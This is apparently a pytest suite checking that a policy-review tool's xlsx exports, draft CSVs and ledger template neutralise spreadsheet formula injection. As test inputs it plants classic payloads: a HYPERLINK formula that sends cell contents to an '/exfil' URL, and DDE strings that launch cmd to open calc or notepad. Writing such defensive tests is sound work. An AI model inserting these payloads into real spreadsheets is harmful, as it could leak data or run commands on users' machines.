"""Spreadsheet (formula) injection: every text cell of the run's xlsx, the ledger template and the
draft CSVs is text, never a formula, whatever the curated tables or the report say (SECURITY.md)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from policy_review.core import edited_files
from policy_review.core.edited_files import read_table
from policy_review.pages.exports import spreadsheet
from policy_review.review import year_review as rv
from tests.conftest import copy_project, run_cli
from tests.hostile import REGION, REPORTS, edit_table

# --- spreadsheets: every text cell is text, never a formula ------------------------------------

INJECTIONS = {
    "=": '=HYPERLINK("http://127.0.0.1:9/exfil?d="&B2,"x")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C notepad'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def workbook_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


#: Where each attack is planted: its own figure, problem and provenance field, in one copy of the
#: project (kaizhou 2018 admits five problems, 2019 one: the sixth attack goes to 2019).
CASES = sorted(INJECTIONS)
PROVENANCE_FIELDS = ("title_en", "publisher_en", "coverage_note", "address_note", "license_note")


def _year_of(start: str) -> int:
    return 2018 if CASES.index(start) < len(PROVENANCE_FIELDS) else 2019


def _rows_of(root: Path, name: str, year: int) -> list[int]:
    """The data rows of a curated table that belong to ``year``."""
    path = root / "data" / "curated" / REGION / f"{name}.csv"
    rows = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    return [n for n, row in enumerate(rows) if row["report_year"] == str(year)]


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """One copy of the project whose curated labels, problem summaries and provenance carry every
    attack (one leading character each), validated once; each year's workbook, by year."""
    root = copy_project(tmp_path_factory.mktemp("planted") / "project")
    out = tmp_path_factory.mktemp("workbooks")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("POLICY_REVIEW_ROOT", str(root))
        rv.region_tables.cache_clear()
        try:
            for year in (2018, 2019):
                starts = [s for s in CASES if _year_of(s) == year]
                figures, issues = _rows_of(root, "figures", year), _rows_of(root, "issues", year)
                provenance = root / REPORTS / f"{year}.yaml"
                lines = provenance.read_text(encoding="utf-8").split("\n")
                for n, start in enumerate(starts):
                    attack = INJECTIONS[start]
                    edit_table(root, "figures", figures[n], label_en=attack)
                    edit_table(root, "issues", issues[n], summary_en=attack + " (issue)")
                    field = PROVENANCE_FIELDS[n]
                    lines = [
                        f"{field}: {json.dumps(attack + ' Report')}" if line.startswith(f"{field}:") else line
                        for line in lines
                    ]
                provenance.write_text("\n".join(lines), encoding="utf-8")
            validated = run_cli("validate", env_root=root)
            books = {}
            for year in (2018, 2019):
                review = rv.load_review(REGION, year, "en")
                books[year] = workbook_cells(spreadsheet.write_review_workbook(review, out / f"{year}.xlsx"))
        finally:
            rv.region_tables.cache_clear()
    return validated, books


@pytest.mark.parametrize("start", CASES)
def test_curated_text_is_text_in_the_run_spreadsheet(planted, start):
    """A formula in a curated label, problem summary or the provenance reaches the xlsx as the
    same text, never as a formula, and quote-prefixed so that Excel keeps it text."""
    attack = INJECTIONS[start]
    validated, books = planted
    assert validated.returncode == 0, validated.stderr[-2000:]
    cells = books[_year_of(start)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    planted_cells = [c for c in cells if isinstance(c.value, str) and attack.strip() in c.value]
    assert {c.parent.title for c in planted_cells} >= {"figures", "problems", "source"}
    for c in planted_cells:
        assert c.data_type == "s" and c.quotePrefix, (c.parent.title, c.coordinate)


def test_draft_text_is_text_in_the_spreadsheet(project_copy, tmp_path):
    """A region with no curated tables (its tables are a draft made from the text alone) whose
    report has lines that start with a formula: the draft's figure labels start with it, and no
    sheet holds a formula."""
    reports = project_copy / "data/reports/other"
    reports.mkdir()
    lines = (project_copy / REPORTS / "2019.txt").read_text(encoding="utf-8").split("\n")
    attack = '=HYPERLINK("http://127.0.0.1:9/x?d="&B2,"x")共办理行政复议案件15件，'
    lines = [attack + line if n % 3 == 2 and line.strip() else line for n, line in enumerate(lines)]
    (reports / "2019.txt").write_text("\n".join(lines), encoding="utf-8")
    provenance = (project_copy / REPORTS / "2019.yaml").read_text(encoding="utf-8")
    (reports / "2019.yaml").write_text(
        provenance.replace("region: kaizhou", "region: other"), encoding="utf-8"
    )
    review = rv.load_review("other", 2019, "zh")
    assert not review.curated
    cells = workbook_cells(spreadsheet.write_review_workbook(review, tmp_path / "2019.xlsx"))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    planted = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert planted and all(c.quotePrefix for c in planted)


def test_draft_csv_guards_formulas_and_reads_back_the_same_text(project_copy, tmp_path):
    """The draft CSVs (written for the researcher to correct, often in Excel) hold the formula
    text behind an apostrophe, so Excel shows it as text; reading the table removes it."""
    from policy_review.draft import report_draft

    reports = project_copy / "data/reports/other"
    reports.mkdir()
    lines = (project_copy / REPORTS / "2019.txt").read_text(encoding="utf-8").split("\n")
    attack = "@SUM(1+9)*cmd|' /C calc'!A0共受理行政复议案件12件，"
    lines = [attack + line if n % 3 == 2 and line.strip() else line for n, line in enumerate(lines)]
    (reports / "2019.txt").write_text("\n".join(lines), encoding="utf-8")
    provenance = (project_copy / REPORTS / "2019.yaml").read_text(encoding="utf-8")
    (reports / "2019.yaml").write_text(
        provenance.replace("region: kaizhou", "region: other"), encoding="utf-8"
    )
    written = report_draft.write_draft("other", 2019, tmp_path)
    guarded = read = 0
    for file in written:
        raw = list(csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")))
        table, problems = read_table(file)
        assert not problems, problems
        for row, cells in zip(table.itertuples(index=False), raw[1:]):
            for value, written_cell in zip(row, cells):
                assert not written_cell.startswith(("=", "+", "@")), (file.name, written_cell)
                if isinstance(value, str) and value.startswith("@SUM"):
                    read += 1
                    guarded += written_cell == "'" + value
    assert read and guarded == read


def test_csv_cell():
    from policy_review.core.edited_files import csv_cell

    assert [csv_cell(v) for v in ("=1+1", "-3.5", "+86", "-", "@x", "\tx", "法治", 15, "'=x")] == [
        "'=1+1",
        "-3.5",
        "+86",
        "'-",
        "'@x",
        "'\tx",
        "法治",
        15,
        "'=x",
    ]


def test_ledger_template_has_no_formula(tmp_path):
    """The template, plain or pre-filled from a plan's tasks (whose ids come from the plan)."""
    from policy_review.tables import ledger_template

    assert not [c for c in workbook_cells(ledger_template.write_template(tmp_path)[1]) if c.data_type == "f"]
    tasks = [
        {"task_id": '=HYPERLINK("http://127.0.0.1:9/","x")', "plan_year": 2021},
        {"task_id": "+t-2021-a002", "plan_year": 2021},
    ]
    csv_path, xlsx_path = ledger_template.write_template(tmp_path, tasks=tasks, name="from_plan")
    cells = workbook_cells(xlsx_path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if c.quotePrefix} == {task["task_id"] for task in tasks}
    written = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"), newline="")))
    assert {row[0] for row in written[1:]} == {"'" + task["task_id"] for task in tasks}
    table, _ = read_table(csv_path)
    assert set(table["task_id"]) == {task["task_id"] for task in tasks}


def test_text_cells_as_text_leaves_numbers_and_plain_text():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([15, -3.5, "开州区", "-", "=A1*2", "@x"])
    edited_files.text_cells_as_text(book)
    a, b, c, d, e, f = sheet[1]
    assert (a.data_type, b.data_type, c.data_type) == ("n", "n", "s")
    assert not c.quotePrefix and d.quotePrefix and e.quotePrefix and f.quotePrefix
    assert e.data_type == "s" and e.value == "=A1*2"
